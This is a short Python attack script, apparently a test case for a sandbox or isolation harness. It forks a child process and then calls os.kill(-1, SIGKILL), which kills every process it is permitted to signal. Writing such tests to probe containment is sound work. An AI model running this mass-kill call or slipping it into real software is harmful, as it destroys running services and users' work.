"""Sends SIGKILL to every process that it may."""

import os
import signal
import time

from attacking import at_first


def attack():
    child = os.fork()
    if child == 0:
        time.sleep(600)
    os.kill(-1, signal.SIGKILL)
    return {"child": os.waitpid(child, 0)[1]}


choose = at_first(attack)
